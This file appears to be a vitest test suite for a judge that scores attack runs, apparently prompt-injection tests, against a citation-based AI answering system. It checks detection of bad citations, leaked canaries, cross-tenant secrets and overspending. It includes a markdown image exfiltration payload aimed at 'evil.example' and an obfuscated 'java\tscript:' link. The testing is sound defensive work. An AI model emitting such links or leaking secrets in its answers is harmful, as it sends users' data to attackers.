import type { Answer, AnswerSentence, Citation } from "@clew/core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { type AttackBench, type AttackRun, openAttackBench } from "./attack-bench.js";
import { attackCases } from "./attack-cases.js";
import { secrets } from "./harbour-corpus.js";
import { judgeRun } from "./judge-run.js";

const attack = attackCases.find(({ family }) => family === "closing-the-fence")!;
let bench: AttackBench;
let run: AttackRun;
beforeAll(async () => {
  bench = await openAttackBench([attack]);
  run = await bench.run(attack, "everything");
});
afterAll(() => bench.close());

/** The run with something broken in it, as its oracle should see it. */
const broken = (
  change: (answer: Answer, citation: Citation, sentence: AnswerSentence) => Partial<Answer>,
): string[] => {
  const [answer] = run.answers;
  const { id, passage } = answer!.evidence[0]!;
  const { source, title, text, span } = passage;
  const citation: Citation = { evidence: id, quote: text, source, title, span, line: 1 };
  const sentence: AnswerSentence = { text: "It is so.", citations: [citation], verdict: "supported", reasons: [] };
  const changed = { ...answer!, text: sentence.text, sentences: [sentence], ...change(answer!, citation, sentence) };
  return judgeRun({ ...run, answers: [changed] }, bench.texts).findings.map(({ oracle }) => oracle);
};

it("finds nothing in a run that held", () => {
  expect(judgeRun(run, bench.texts)).toMatchObject({ findings: [], succeeded: false, reached: true, obeyed: true });
  expect(broken((_, citation, sentence) => ({ citations: [citation], sentences: [sentence] }))).toEqual([]);
});

it("finds each thing that may break", () => {
  expect(broken((_, c) => ({ citations: [{ ...c, evidence: "E99" as Citation["evidence"] }] }))).toContain(
    "unknown-id",
  );
  expect(broken((_, c) => ({ citations: [{ ...c, quote: `${c.quote}!` }] }))).toContain("unknown-id");
  expect(broken(() => ({ text: "See [E99]." }))).toContain("unknown-id");
  expect(broken(() => ({ text: "![x](//evil.example/?q=1)" }))).toContain("link");
  expect(broken((_, c) => ({ citations: [{ ...c, uri: "java\tscript:x" }] }))).toContain("link");
  expect(broken(() => ({ text: secrets.otherTenant[0]! }))).toContain("foreign-scope");
  expect(broken(({ usage }) => ({ usage: { ...usage, inputTokens: 1e6 } }))).toContain("overspending");
  const clean = run.answers[0]!.evidence.find(({ passage }) => !passage.text.includes(attack.canary))!.passage;
  expect(
    broken((_, citation, sentence) => ({
      sentences: [{ ...sentence, text: attack.canary, citations: [{ ...citation, quote: clean.text }] }],
    })),
  ).toContain("canary");
  const searches = [{ query: "x", options: { filter: {} } }];
  expect(judgeRun({ ...run, searches }, bench.texts).findings.map(({ oracle }) => oracle)).toContain("foreign-scope");
  const model = { ...run.model!, problems: ["a special token"] };
  expect(judgeRun({ ...run, model }, bench.texts).findings.map(({ oracle }) => oracle)).toContain("structure");
});
